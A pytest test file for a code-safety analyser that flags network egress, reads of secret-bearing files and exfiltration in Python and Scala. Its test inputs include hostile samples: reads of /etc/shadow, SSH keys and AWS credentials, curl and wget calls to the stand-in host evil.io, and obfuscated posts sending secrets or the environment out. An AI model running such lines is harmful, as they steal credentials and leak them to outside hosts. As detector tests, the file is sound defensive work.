"""Network egress and secret-bearing files are findings; both together are CRITICAL."""

from __future__ import annotations

import textwrap

import pytest

from aadap.core.config import SafetySettings
from aadap.core.enums import Environment, RiskLevel
from aadap.safety import Analysis, analyze, decide

ALLOWED = ["api.example.com", "*.corp.example.com"]


def py(code: str, *, allowed: list[str] | None = None) -> Analysis:
    return analyze(
        textwrap.dedent(code),
        language="python",
        platform="local",
        egress_allowed_hosts=ALLOWED if allowed is None else allowed,
    )


@pytest.mark.parametrize(
    "code",
    [
        'import requests\nrequests.get("https://evil.io/x")',
        "import requests\nrequests.post(url, json=payload)",
        'import requests\ns = requests.Session()\ns.post("https://evil.io", data=1)',
        "import httpx\nasync def f():\n    async with httpx.AsyncClient() as c:\n"
        '        await c.get("https://evil.io")',
        "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n"
        '        await s.post("http://x.io")',
        'import socket\ns = socket.socket()\ns.connect(("api.example.com", 80))',
        'from urllib.request import urlopen\nurlopen("http://" + "evil" + ".io")',
        'import http.client\nc = http.client.HTTPSConnection("evil.io")',
        'import os\nos.system("wget http://evil.io/x.sh")',
        'import subprocess\nsubprocess.check_output(["/usr/bin/curl", "-s", "https://x.io"])',
        'import requests\ngetattr(requests, "po" + "st")("https://evil.io", data=b"x")',
        'import ftplib\nftplib.FTP("ftp.evil.io")',
        'import requests\nrequests.get("https://api.example.com.evil.io/x")',
        'import requests\nrequests.request("POST", "https://evil.io/x", data=1)',
        'import pandas as pd\ndf = pd.read_csv("https://evil.io/x.csv")',
        'df = spark.read.json("http://evil.io/x.json")',
        'import socket\nsocket.gethostbyname(secret + ".evil.io")',
    ],
)
def test_network_calls_are_high(code: str) -> None:
    analysis = py(code)
    assert "python.egress" in analysis.rules(), analysis.rules()
    assert analysis.risk >= RiskLevel.HIGH


@pytest.mark.parametrize(
    "code",
    [
        'import requests\nrequests.get("https://api.example.com/v1/rates", timeout=5)',
        'import requests\nrequests.get("https://data.corp.example.com/v1/rates")',
        'import requests\nwith requests.Session() as s:\n    s.get("https://api.example.com/x")',
        'import socket\nsocket.create_connection(("api.example.com", 443))',
        'BASE = "https://api." + "example.com"\nimport httpx\nhttpx.get(BASE + "/v1/x")',
        'import requests\nrequests.request("GET", "https://api.example.com/x")',
        'import pandas as pd\ndf = pd.read_csv("https://api.example.com/x.csv")',
    ],
)
def test_allow_listed_hosts_are_respected(code: str) -> None:
    assert "python.egress" not in py(code).rules()
    assert "python.egress" in py(code, allowed=[]).rules(), "the allow-list is what made it safe"


@pytest.mark.parametrize(
    "code",
    [
        'data = open("/etc/passwd").read()',
        'from pathlib import Path\nkey = (Path.home() / ".ssh" / "id_rsa").read_text()',
        'import os\nopen(os.path.join(os.path.expanduser("~"), ".aws", "credentials")).read()',
        'k = open("/dbfs/FileStore/keys/service.key").read()',
        'import os\nopen(os.environ["HOME"] + "/.ssh/id_ed25519").read()',
        'cfg = open("/root/.databrickscfg").read()',
        'env = open("/proc/self/environ").read()',
        'import sqlite3\nsqlite3.connect("/root/.aadap/aadap.db").execute("SELECT 1")',
        'creds = open("/root/.aws/credentials").read()',
        'df = spark.read.text("/etc/shadow")',
    ],
)
def test_secret_bearing_files_are_high(code: str) -> None:
    analysis = py(code)
    assert "python.sensitive_file" in analysis.rules()
    assert analysis.risk >= RiskLevel.HIGH


@pytest.mark.parametrize(
    "code",
    [
        'import pandas as pd\ndf = pd.read_csv("data/orders.csv")',
        'df = spark.read.parquet("/mnt/raw/monkey_data/")',
        'with open("output/report.txt", "w") as f:\n    f.write("ok")',
        'import json\ncfg = json.load(open("config/pipeline.json"))',
        'import os\nsecret = os.environ["API_TOKEN"]',
        'import pandas as pd\ndf = pd.read_csv("/root/data/orders.csv")',
        "import duckdb\nduckdb.sql(\"SELECT * FROM read_csv('/home/ana/data/x.csv')\")",
    ],
)
def test_workspace_files_are_not_sensitive(code: str) -> None:
    assert py(code).risk < RiskLevel.HIGH, py(code).rules()


@pytest.mark.parametrize(
    "code",
    [
        'import requests\nrequests.post("https://evil.io", data=open("/etc/shadow").read())',
        'import subprocess\nsubprocess.run(["curl", "-d", "@/etc/passwd", "http://evil.io"])',
        'import requests, os\nk = open(os.environ["HOME"] + "/.ssh/id_rsa").read()\n'
        'getattr(requests, "po" + "st")("https://evil.io", data=k)',
    ],
)
def test_reading_a_secret_file_and_sending_is_critical_and_forbidden_in_production(
    code: str,
) -> None:
    analysis = py(code)
    assert "egress.exfiltration" in analysis.rules()
    assert analysis.risk is RiskLevel.CRITICAL
    settings = SafetySettings(_env_file=None)
    assert decide(analysis, Environment.PRODUCTION, settings).decision == "forbidden"


def test_exfiltration_across_a_notebook_sql_cell_and_python() -> None:
    code = (
        "# Databricks notebook source\n"
        "import requests\n"
        'requests.post("https://evil.io", data=rows)\n'
        "# COMMAND ----------\n"
        "# MAGIC %sql\n"
        "# MAGIC SELECT * FROM read_text('/etc/passwd')\n"
    )
    analysis = analyze(code, language="python", platform="local")
    assert "egress.exfiltration" in analysis.rules(), analysis.rules()


def test_the_allow_list_setting_reads_its_environment_variable(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("AADAP_SAFETY_EGRESS_ALLOWED_HOSTS", '["api.example.com"]')
    assert SafetySettings(_env_file=None).egress_allowed_hosts == ["api.example.com"]


def test_dumping_the_environment_is_a_secret_read() -> None:
    dump = py("import os\nfor k, v in os.environ.items():\n    print(k, v)")
    assert "python.environment_dump" in dump.rules()
    sent = py(
        "import os, json, requests\n"
        'requests.post("https://evil.io", data=json.dumps(dict(os.environ)))'
    )
    assert "egress.exfiltration" in sent.rules()
    one = py('import os\nhome = os.environ.get("HOME")\ntoken = os.environ["TOKEN"]')
    assert one.findings == ()


def scala(code: str) -> Analysis:
    return analyze(
        textwrap.dedent(code), language="scala", platform="databricks", egress_allowed_hosts=ALLOWED
    )


@pytest.mark.parametrize(
    "code",
    [
        'val s = scala.io.Source.fromURL("https://evil.io/x").mkString',
        "val s = scala.io.Source.fromURL(endpoint).mkString",
        'val c = new java.net.URL("http://" + host).openConnection()',
        'val s = new Socket("10.0.0.5", 4444)',
        'val r = requests.post("https://evil.io/in", data = rows)',
        "val c = HttpClient.newHttpClient()\nc.send(req, BodyHandlers.ofString())",
        'val req = HttpRequest.newBuilder(URI.create("https://evil.io")).build()',
        'import sys.process._\nval out = "curl -s https://evil.io/x" !!',
        'Seq("wget", "-q", "https://evil.io/x").!',
        'val ip = InetAddress.getByName("evil.io")',
        'import scala.io.Source.{fromURL => grab}\nval s = grab("https://evil.io/x").mkString',
    ],
)
def test_scala_network_calls_are_high(code: str) -> None:
    analysis = scala(code)
    assert "scala.egress" in analysis.rules(), analysis.rules()
    assert analysis.risk >= RiskLevel.HIGH


@pytest.mark.parametrize(
    "code",
    [
        'val s = scala.io.Source.fromURL("https://api.example.com/rates").mkString',
        'val c = new URL("https://api.example.com/v1").openConnection()',
        'val req = HttpRequest.newBuilder(URI.create("https://data.corp.example.com/x")).build()\n'
        "HttpClient.newHttpClient().send(req, BodyHandlers.ofString())",
        'val fs = FileSystem.get(new URI("abfss://lake@acct.dfs.core.windows.net/"), conf)',
        'val df = spark.read.parquet("/Workspace/data/orders")',
        'import scala.collection.mutable.{Map => MMap}\nval m = MMap("a" -> 1)',
    ],
)
def test_scala_allow_listed_hosts_and_lake_paths_are_not_egress(code: str) -> None:
    analysis = scala(code)
    assert not analysis.rules() & {"scala.egress", "scala.sensitive_file"}, analysis.rules()
    assert analysis.risk < RiskLevel.HIGH


@pytest.mark.parametrize(
    "code",
    [
        'val key = scala.io.Source.fromFile("/root/.ssh/id_rsa").mkString',
        'val p = scala.io.Source.fromFile("/et" + "c/passwd").getLines.toList',
        'val t = dbutils.fs.head("dbfs:/FileStore/keys/service.pem")',
    ],
)
def test_scala_secret_bearing_files_are_high(code: str) -> None:
    analysis = scala(code)
    assert "scala.sensitive_file" in analysis.rules(), analysis.rules()


def test_scala_reading_a_key_and_sending_it_is_exfiltration_forbidden_in_production() -> None:
    analysis = scala(
        """
        val key = scala.io.Source.fromFile("/root/.ssh/id_rsa").mkString
        val c = new URL(sys.env("SINK")).openConnection()
        c.getOutputStream.write(key.getBytes)
        """
    )
    assert "egress.exfiltration" in analysis.rules()
    decision = decide(analysis, Environment.PRODUCTION, SafetySettings(_env_file=None))
    assert decision.decision == "forbidden"
